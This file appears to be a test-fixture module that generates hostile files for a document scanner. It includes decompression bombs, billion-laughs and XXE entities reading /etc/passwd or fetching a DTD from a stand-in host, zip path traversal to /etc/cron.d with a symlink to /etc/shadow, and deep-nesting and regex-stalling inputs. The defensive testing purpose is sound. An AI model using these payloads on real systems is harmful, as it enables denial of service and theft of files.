"""Files made to stop, fill or mislead whoever reads them; each has to be refused in good time.

Text that is merely long or nested would be right to pass, so where reading it through is the danger, there is a leak
at its end.
"""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib

from cases import Making, hostile, zipped
from images import image_clean_photo
from opendocuments import package
from papers import letter
from words import letter as word_letter

_MIB = 1024 * 1024


def _nik_line(its: Making) -> str:
    someone = its.person()
    return f"\nPemohon: {someone.name}\nNIK: {its.keep(someone.nik)}\n"


def _pdf(objects: list[bytes], root: int = 1, head: bytes = b"%PDF-1.7\n") -> bytes:
    out, places = bytearray(head), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(
        b"%010d 00000 n \n" % place for place in places
    )
    return bytes(out + b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, start))


def _paged(content: bytes, box: bytes = b"[0 0 595 842]", entries: bytes = b"") -> bytes:
    stream = b"<<%b/Length %d>>\nstream\n%b\nendstream" % (entries, len(content), content)
    return _pdf([
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox%b/Contents 4 0 R/Resources<<>>>>" % box,
        stream,
    ])


# ------------------------------------------------------------------ bombs
@hostile("archive", "bomb", ".zip")
def hostile_zip_bomb(its: Making) -> bytes:
    """One member of 300 MB of noughts, packed to a thousandth."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = b"".join(packer.compress(bytes(_MIB)) for _ in range(300)) + packer.flush()
    crc = 0
    for _ in range(300):
        crc = zlib.crc32(bytes(_MIB), crc)
    common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0x4BC0, 0x5865, crc, len(data), 300 * _MIB, 7, 0)
    body = b"PK\x03\x04" + common + b"nol.txt" + data
    directory = b"PK\x01\x02\x14\0" + common + struct.pack("<HHHII", 0, 0, 0, 0, 0) + b"nol.txt"
    return body + directory + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(directory), len(body), 0)


@hostile("archive", "bomb", ".zip")
def hostile_zip_of_zips(its: Making) -> bytes:
    """Six levels of ten archives each: a million files of noughts."""
    inner: bytes = zipped({"nol.txt": bytes(_MIB)})
    for level in range(6):
        inner = zipped({f"{level}-{number}.zip": inner for number in range(10)})
    return inner


@hostile("archive", "bomb", ".zip")
def hostile_zip_deep(its: Making) -> bytes:
    """Forty archives, one in another."""
    inner: bytes = zipped({"surat.txt": its.prose(1)[0]})
    for _ in range(40):
        inner = zipped({"isi.zip": inner})
    return inner


@hostile("archive", "bomb", ".zip")
def hostile_zip_overlapping(its: Making) -> bytes:
    """Two thousand directory entries that all point to the same ten packed megabytes."""
    data = zlib.compress(bytes(10 * _MIB), 9)[2:-4]
    names = [f"{number:05}.txt" for number in range(2000)]
    crc = zlib.crc32(bytes(10 * _MIB))
    common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0x4BC0, 0x5865, crc, len(data), 10 * _MIB, 9, 0)
    body = b"PK\x03\x04" + common + names[0].encode() + data
    directory = b"".join(
        b"PK\x01\x02\x14\0" + common + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name.encode() for name in names
    )
    return body + directory + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 2000, 2000, len(directory), len(body), 0)


@hostile("archive", "bomb", ".zip")
def hostile_zip_lying_about_its_size(its: Making) -> bytes:
    """The directory says that 80 MB are a hundred bytes."""
    content = bytearray(zipped({"kecil.txt": bytes(80 * _MIB)}))
    for mark, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = content.index(mark) + place
        content[start : start + 4] = struct.pack("<I", 100)
    return bytes(content)


@hostile("archive", "many-members", ".zip")
def hostile_zip_of_very_many(its: Making) -> bytes:
    """Sixty thousand empty members."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(60_000):
            archive.writestr(zipfile.ZipInfo(f"{number}.txt", (2024, 3, 5, 9, 30, 0)), b"")
    return buffer.getvalue()


@hostile("archive", "bomb", ".csv.gz")
def hostile_gzip_bomb(its: Making) -> bytes:
    """Five hundred megabytes of one letter."""
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0) as packed:
        for _ in range(500):
            packed.write(b"a" * _MIB)
    return buffer.getvalue()


@hostile("pdf", "bomb", ".pdf")
def hostile_pdf_stream_bomb(its: Making) -> bytes:
    """A page whose content unpacks to 400 MB, packed twice."""
    packer = zlib.compressobj(9)
    once = b"".join(packer.compress(b" " * _MIB) for _ in range(400)) + packer.flush()
    return _paged(zlib.compress(once, 9), entries=b"/Filter[/FlateDecode/FlateDecode]")


@hostile("image", "bomb", ".png")
def hostile_png_bomb(its: Making) -> bytes:
    """A picture of sixty thousand by sixty thousand points in a few kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress(bytes(7501) * 4000, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", rows)
        + chunk(b"IEND", b"")
    )


# ------------------------------------------------------------------ XML
_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{number} "{f"&a{number - 1};" * 10}">' for number in range(1, 10))
    + "]>"
)


@hostile("word", "entities", ".docx")
def hostile_word_laughs(its: Making) -> bytes:
    """A billion laughs in the body of a letter."""
    parts = word_letter(its)
    text = parts.text("word/document.xml")
    start = text.index("<w:document")
    parts.parts["word/document.xml"] = (text[:start] + _LAUGHS + text[start:].replace("<w:t>", "<w:t>&a9;", 1)).encode()
    return parts.done()


@hostile("text", "entities", ".svg")
def hostile_svg_laughs(its: Making) -> bytes:
    """A billion laughs in a drawing."""
    return f'<?xml version="1.0"?>{_LAUGHS}<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text>&a9;</text></svg>'.encode()


@hostile("text", "entities", ".svg")
def hostile_svg_reading_files(its: Making) -> bytes:
    """An entity that would read a file of the machine into the drawing."""
    return b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY isi SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&isi;</text></svg>'


@hostile("excel", "entities", ".xlsx")
def hostile_sheet_reading_the_network(its: Making) -> bytes:
    """A part of the workbook declares a parameter entity on a server."""
    from sheets import saved, workbook  # noqa: PLC0415 - only here

    parts = saved(workbook(its))
    text = parts.text("xl/sharedStrings.xml")
    parts.parts["xl/sharedStrings.xml"] = (
        '<!DOCTYPE sst [<!ENTITY % jauh SYSTEM "http://pengumpul.example/x.dtd"> %jauh;]>' + text
    ).encode()
    return parts.done()


@hostile("text", "nesting", ".svg")
def hostile_svg_deep(its: Making) -> bytes:
    """A hundred thousand groups, one in another."""
    return b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g>" * 100_000 + b"</g>" * 100_000 + b"</svg>"


@hostile("text", "script", ".svg")
def hostile_svg_growing(its: Making) -> bytes:
    """Twenty levels of references that double each time, and a handler that runs when it is loaded."""
    levels = "".join(
        f'<g id="g{number}"><use href="#g{number - 1}"/><use href="#g{number - 1}"/></g>' for number in range(1, 21)
    )
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="for(;;){{}}"><defs><g id="g0"><rect width="1" height="1"/></g>{levels}</defs><use href="#g20"/></svg>'.encode()


@hostile("odf", "nesting", ".ods")
def hostile_sheet_of_repeats(its: Making) -> bytes:
    """A cell repeated a thousand million times in a row repeated a million times, with a hidden sheet behind it."""
    row = '<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="1000000000" office:value-type="string"><text:p>isi</text:p></table:table-cell></table:table-row>'
    styles = '<style:style style:name="ta9" style:family="table"><style:table-properties table:display="false"/></style:style>'
    hidden = f'<table:table table:name="X" table:style-name="ta9"><table:table-row><table:table-cell><text:p>{its.whisper()}</text:p></table:table-cell></table:table-row></table:table>'
    return package(its, "ods", f'<table:table table:name="A">{row}</table:table>{hidden}', styles=styles)


# ------------------------------------------------------------------ damaged
@hostile("pdf", "damaged", ".pdf")
def hostile_pdf_cut_short(its: Making) -> bytes:
    """A PDF of which the second half is missing."""
    content = letter(its)
    return content[: len(content) // 2]


@hostile("pdf", "damaged", ".pdf")
def hostile_pdf_garbage(its: Making) -> bytes:
    """The head of a PDF and then noise."""
    return b"%PDF-1.7\n" + its.rng.randbytes(50_000)


@hostile("pdf", "loop", ".pdf")
def hostile_pdf_tree_loop(its: Making) -> bytes:
    """The tree of pages has itself as its branch."""
    return _pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000/Parent 2 0 R>>"])


@hostile("pdf", "loop", ".pdf")
def hostile_pdf_table_loop(its: Making) -> bytes:
    """The cross-reference table names itself as the one before; the page list is broken."""
    content = _pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids 2 0 R/Count 1>>"])
    place = int(content[content.rindex(b"startxref") + 9 :].split()[0])
    return content.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % place)


@hostile("pdf", "nesting", ".pdf")
def hostile_pdf_deep(its: Making) -> bytes:
    """A dictionary with an array two hundred thousand levels deep."""
    deep = b"[" * 200_000 + b"]" * 200_000
    return _pdf([b"<</Type/Catalog/Pages 2 0 R/Dalam 3 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>", deep])


@hostile("pdf", "huge-page", ".pdf")
def hostile_pdf_huge_page(its: Making) -> bytes:
    """A page of a hundred kilometres, which nobody can render, with white text on it."""
    said = its.whisper().encode("cp1252")
    return _pdf([
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 280000000 280000000]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
        b"<</Length %d>>\nstream\n%b\nendstream" % (len(said) + 40, b"BT /F 12 Tf 1 g 99999 99999 Td (" + said + b") Tj ET"),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ])  # fmt: skip


@hostile("image", "damaged", ".png")
def hostile_png_cut_short(its: Making) -> bytes:
    """A picture of which the end is missing."""
    from images import image_clean_png_software  # noqa: PLC0415 - only here

    content = image_clean_png_software(its)
    return content[: len(content) // 2]


@hostile("image", "damaged", ".jpg")
def hostile_jpeg_cut_short(its: Making) -> bytes:
    """A photo of which the end is missing."""
    content = image_clean_photo(its)
    return content[: len(content) // 2]


@hostile("word", "damaged", ".docx")
def hostile_word_cut_short(its: Making) -> bytes:
    """A letter whose archive has lost its directory."""
    content = word_letter(its).done()
    return content[: len(content) * 2 // 3]


@hostile("word", "damaged", ".docx")
def hostile_word_broken_part(its: Making) -> bytes:
    """A letter whose body is not well-formed."""
    parts = word_letter(its)
    parts.parts["word/document.xml"] = parts.parts["word/document.xml"][:-200]
    return parts.done()


@hostile("word", "damaged", ".docx")
def hostile_word_wrong_checksum(its: Making) -> bytes:
    """A letter in which one packed part has been overwritten."""
    content = bytearray(word_letter(its).done())
    start = content.index(b"word/document.xml") + 300
    content[start : start + 40] = bytes(40)
    return bytes(content)


@hostile("archive", "path", ".zip")
def hostile_zip_paths(its: Making) -> bytes:
    """Members that would be written outside the folder, and one that is a link to a file of the machine."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, mode, text in (
            ("../../etc/cron.d/x", 0o100644, "* * * * *"),
            ("/etc/passwd", 0o100644, "x"),
            ("tautan", 0o120777, "/etc/shadow"),
            ("a\\..\\b.txt", 0o100644, "x"),
        ):
            entry = zipfile.ZipInfo(name, (2024, 3, 5, 9, 30, 0))
            entry.external_attr = mode << 16
            entry.create_system = 3
            archive.writestr(entry, text)
    return buffer.getvalue()


@hostile("archive", "damaged", ".zip")
def hostile_zip_two_of_one_name(its: Making) -> bytes:
    """Two members of one name: one program takes the first, another the last, which has a list of people."""
    content = zipped({"surat.txt": _nik_line(its), "sura2.txt": its.prose(1)[0]})
    return content.replace(b"sura2.txt", b"surat.txt")


# ------------------------------------------------------------------ text that runs a pattern in circles
@hostile("text", "pattern", ".txt")
def hostile_text_of_digits(its: Making) -> bytes:
    """Two megabytes of digits without a break, then a person's number."""
    return ("1234567890" * 200_000 + _nik_line(its)).encode()


@hostile("text", "pattern", ".txt")
def hostile_text_of_spaced_digits(its: Making) -> bytes:
    """A megabyte of digits and blanks in turn, dots and hyphens between, then a person's number."""
    return ("3 5 0.6-1 3 " * 90_000 + _nik_line(its)).encode()


@hostile("text", "pattern", ".txt")
def hostile_text_of_words(its: Making) -> bytes:
    """A hundred thousand times the words that make a detector look closer, then a person's number."""
    return ("NIK pemohon HP rekening a.n. password: " * 60_000 + _nik_line(its)).encode()


@hostile("text", "pattern", ".html")
def hostile_page_of_angles(its: Making) -> bytes:
    """A megabyte of opening brackets and half comments, then a comment about a person."""
    return (
        "<!doctype html><html><body>"
        + "<!-" * 150_000
        + "<" * 300_000
        + f"<!-- {its.whisper()} --><p>isi</p>{_nik_line(its)}</body></html>"
    ).encode()


@hostile("text", "nesting", ".html")
def hostile_page_deep(its: Making) -> bytes:
    """Two hundred thousand elements, one in another, with a comment in the innermost."""
    return b"<!doctype html><html><body>" + b"<div>" * 200_000 + f"<!-- {its.whisper()} -->{_nik_line(its)}".encode()


@hostile("text", "nesting", ".json")
def hostile_json_deep(its: Making) -> bytes:
    """A list three hundred thousand levels deep, with a person's number in the innermost."""
    return b"[" * 300_000 + f'"NIK {its.keep(its.person().nik)}"'.encode() + b"]" * 300_000


@hostile("text", "nesting", ".rtf")
def hostile_rich_text_deep(its: Making) -> bytes:
    """A hundred thousand groups, the innermost hidden."""
    return b"{\\rtf1 " + b"{" * 100_000 + b"\\v " + its.whisper().encode() + b"}" * 100_001


@hostile("text", "nesting", ".eml")
def hostile_mail_deep(its: Making) -> bytes:
    """Four hundred mails, one in another, the last with a requester's number."""
    inner = f"From: a@b.example\r\nSubject: x\r\n\r\n{_nik_line(its)}"
    for _ in range(400):
        inner = "From: a@b.example\r\nSubject: x\r\nContent-Type: message/rfc822\r\n\r\n" + inner
    return inner.encode()


@hostile("text", "long-line", ".csv")
def hostile_table_of_quotes(its: Making) -> bytes:
    """A cell that is opened and never closed, two megabytes long, before a table of people."""
    rows = "".join(f"{one.name},{its.keep(one.nik)}\n" for one in (its.person() for _ in range(5)))
    return ('nama,nik\n"' + "a,b\n" * 500_000 + rows).encode()


@hostile("unknown", "damaged", ".pdf")
def hostile_empty(its: Making) -> bytes:
    """Nothing at all, named .pdf."""
    return b""
